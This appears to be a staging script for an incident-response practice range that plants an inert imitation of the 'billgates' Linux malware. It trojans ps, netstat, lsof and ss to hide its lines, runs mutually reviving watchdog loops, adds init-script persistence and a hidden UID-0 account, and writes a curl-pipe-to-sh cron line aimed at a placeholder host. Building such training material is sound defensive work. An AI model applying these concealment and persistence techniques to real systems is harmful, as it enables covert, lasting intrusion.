# Copyright (c) 2026, the ecsops.intrusion_response contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Runs on a practice host, in the intruder's own SSH session: what the family "billgates" leaves there.

Everything that runs is an inert stand-in: a copy of sleep, or a copy of dash that runs a loop which only looks whether
its companions live. Nothing listens, nothing is sent, nothing is downloaded.
"""

import hashlib
import json
import os
import pathlib
import shutil
import subprocess
import sys
import time

BACKDOOR = "/usr/bin/bsd-port"
BACKUP = "/usr/bin/dpkgd"
WATCHDOG = "/usr/bin/.sshd"
SECOND_COPY = "/usr/bin/.swhd"
BOT = BACKDOOR + "/getty"
# On no list of indicators: found only by whoever follows notify.file and the init script.
DROPPED = "/etc/opt-cache/.update"
TOOLS = ("ps", "netstat", "lsof", "ss")
RUN_LEVELS = (1, 2, 3, 4, 5)
ACCOUNT = "sysupd"

# 30 February: cron takes the lines, and never runs them.
USER_CRON_LINE = "*/5 * 30 2 * curl -fsS http://192.0.2.1/i.sh | sh"
SYSTEM_CRON_LINE = "*/5 * 30 2 * root /usr/bin/bsd-port/getty >/dev/null 2>&1"

# $1: file with the companion's pid, $2: its path, $3: its loop. A companion without a file gets a copy of ourselves.
REVIVE = """
revive() {
    kill -0 "$(cat "$1")" && return
    [ -x "$2" ] || { mkdir -p "${2%/*}"; cp "/proc/$$/exe" "$2"; }
    setsid -f "$2" -c "$3"
}
exec </dev/null >/dev/null 2>&1
"""
LOOPS = {
    "GATES_BOT": REVIVE + """
echo $$ > /usr/bin/bsd-port/getty.lock
while :; do revive /tmp/moni.lod /usr/bin/.sshd "$GATES_MONITOR"; sleep 0.5; done
""",
    "GATES_MONITOR": REVIVE + """
echo $$ > /tmp/moni.lod
while :; do
    revive /usr/bin/bsd-port/getty.lock /usr/bin/bsd-port/getty "$GATES_BOT"
    revive /tmp/gates.lod "$(cat /tmp/notify.file)" "$GATES_INSTALLER"
    sleep 0.5
done
""",
    "GATES_INSTALLER": """
exec </dev/null >/dev/null 2>&1
echo $$ > /tmp/gates.lod
while :; do sleep 5; done
""",
}
# In the place of ps, netstat, lsof, ss: starts the bot, runs the original, hides the family's own lines.
TROJANED_TOOL = """#!/bin/sh
%(loops)s
kill -0 "$(cat /usr/bin/bsd-port/getty.lock 2>/dev/null)" 2>/dev/null ||
    setsid -f /usr/bin/bsd-port/getty -c "$GATES_BOT" </dev/null >/dev/null 2>&1
/usr/bin/dpkgd/%(tool)s "$@" | grep -v -e bsd-port -e dpkgd -e '[.]sshd' -e '[.]swhd' -e opt-cache -e GATES_
"""


def main(wanted):
    """Stage the family; ``wanted``: ``password`` for the account. Return what verifying needs."""
    os.mkdir(BACKDOOR)
    os.mkdir(BACKUP)
    os.mkdir(os.path.dirname(DROPPED))
    stand_ins = [stand_in(path, "dash") for path in (WATCHDOG, SECOND_COPY, BOT, DROPPED)]
    stand_ins.append(stand_in(BACKDOOR + "/knerl", "sleep"))
    write(BACKDOOR + "/conf.n", "\0\0\1\0" + "192.0.2.1" + "\0" * 51)
    for tool in TOOLS:
        original = "/usr/bin/" + tool
        shutil.move(original, BACKUP + "/" + tool)
        loops = "\n".join("export %s='%s'" % item for item in sorted(LOOPS.items()))
        write(original, TROJANED_TOOL % {"loops": loops, "tool": tool}, 0o755)
    for name, level, starts in (("DbSecuritySpt", 97, DROPPED), ("selinux", 99, BOT)):
        write("/etc/init.d/" + name, "#!/bin/bash\n%s\n" % starts, 0o755)
        for run_level in RUN_LEVELS:
            os.symlink("../init.d/" + name, "/etc/rc%d.d/S%d%s" % (run_level, level, name))
    write("/tmp/notify.file", DROPPED)

    append("/var/spool/cron/crontabs/root", USER_CRON_LINE)
    append("/etc/crontab", SYSTEM_CRON_LINE)
    run("useradd", "--non-unique", "--uid", "0", "--gid", "0", "--no-create-home", "--home-dir", "/var/lib/.sysupd",
        "--shell", "/bin/bash", ACCOUNT)
    run("chpasswd", stdin="%s:%s\n" % (ACCOUNT, wanted["password"]))

    environment = dict(os.environ, **LOOPS)
    run("setsid", "-f", WATCHDOG, "-c", LOOPS["GATES_MONITOR"], env=environment)
    lock_files = {"watchdog": "/tmp/moni.lod", "bot": BACKDOOR + "/getty.lock", "installer": "/tmp/gates.lod"}
    wait_for(lambda: all(lives(path) for path in lock_files.values()), "watchdog, bot and installer")
    for victim in ("bot", "watchdog"):
        prove_revival(lock_files[victim], victim)

    deleted = {}
    for what, path in (("in_backdoor", BACKDOOR + "/udevd"), ("in_shared_memory", "/dev/shm/sleep")):
        stand_ins.append(stand_in(path, "sleep"))
        deleted[what] = start_and_delete(path)
    for path in (WATCHDOG, SECOND_COPY):
        run("chattr", "+i", path)

    paths = [BACKDOOR, BACKUP, WATCHDOG, SECOND_COPY, DROPPED, *lock_files.values(), "/tmp/notify.file",
             "/etc/init.d/DbSecuritySpt", "/etc/init.d/selinux"]
    paths += [BACKDOOR + "/" + name for name in ("getty", "knerl", "conf.n")]
    paths += [BACKUP + "/" + tool for tool in TOOLS]
    for run_level in RUN_LEVELS:
        paths += ["/etc/rc%d.d/S97DbSecuritySpt" % run_level, "/etc/rc%d.d/S99selinux" % run_level]
    missing = [path for path in paths if not os.path.lexists(path)]
    if missing:
        raise SystemExit("not staged: %s" % missing)
    return {
        "paths": paths,
        "stand_ins": stand_ins,
        "processes": {what: int(pathlib.Path(path).read_text()) for what, path in lock_files.items()},
        "deleted": deleted,
        "lines": {"/var/spool/cron/crontabs/root": USER_CRON_LINE, "/etc/crontab": SYSTEM_CRON_LINE},
        "account": ACCOUNT,
    }


def stand_in(path, program):
    """Put an inert program at ``path`` whose bytes no package vouches for; return its digest."""
    shutil.copy("/usr/bin/" + program, path)
    with open(path, "ab") as stream:
        stream.write(("\ninert stand-in of the practice range: %s\n" % path).encode())
    os.chmod(path, 0o755)
    return hashlib.sha256(pathlib.Path(path).read_bytes()).hexdigest()


def prove_revival(lock_file, what):
    """Kill one companion and see that another brings it back."""
    before = pathlib.Path(lock_file).read_text()
    os.kill(int(before), 9)
    wait_for(lambda: lives(lock_file) and pathlib.Path(lock_file).read_text() != before, "the revival of the " + what)


def start_and_delete(path):
    """Run a waiting program, delete its file, return its pid."""
    process = subprocess.Popen([path, "infinity"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                               stderr=subprocess.DEVNULL, start_new_session=True)
    wait_for(lambda: os.readlink("/proc/%d/exe" % process.pid) == path, path)
    os.unlink(path)
    return process.pid


def lives(lock_file):
    """Tell whether the process named in a lock file is there."""
    try:
        return os.path.exists("/proc/%d" % int(pathlib.Path(lock_file).read_text()))
    except (OSError, ValueError):
        return False


def wait_for(condition, what, seconds=15):
    """Wait until ``condition()`` is true."""
    deadline = time.monotonic() + seconds
    while not condition():
        if time.monotonic() > deadline:
            raise SystemExit("in vain: waited %d s for %s" % (seconds, what))
        time.sleep(0.1)


def append(path, line):
    """Add a line to a file."""
    with open(path, "a", encoding="utf-8") as stream:
        stream.write(line + "\n")


def write(path, content, mode=0o644):
    """Write a text file."""
    with open(path, "w", encoding="utf-8") as stream:
        stream.write(content)
    os.chmod(path, mode)


def run(*argv, stdin="", env=None):
    """Run a command; end with its own words when it fails."""
    done = subprocess.run(argv, check=False, input=stdin, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                          universal_newlines=True)
    if done.returncode != 0:
        raise SystemExit("%s: %s" % (argv[0], done.stderr or done.stdout))


if __name__ == "__main__":
    print(json.dumps(main(json.loads(sys.argv[1]))))
